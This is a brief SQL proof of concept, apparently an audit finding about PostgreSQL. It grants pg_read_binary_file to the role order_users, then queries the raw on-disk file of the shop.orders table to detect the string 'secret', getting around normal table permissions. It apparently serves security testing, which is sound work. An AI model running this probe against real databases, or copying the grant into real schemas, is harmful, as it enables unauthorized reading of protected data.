-- finding: catalog-granted pg_catalog.pg_read_binary_file(text)
GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO order_users;
CHECKPOINT;
-- leak as alice@example.com
SELECT 1 WHERE position('secret'::bytea IN pg_read_binary_file(pg_relation_filepath('shop.orders'))) > 0;
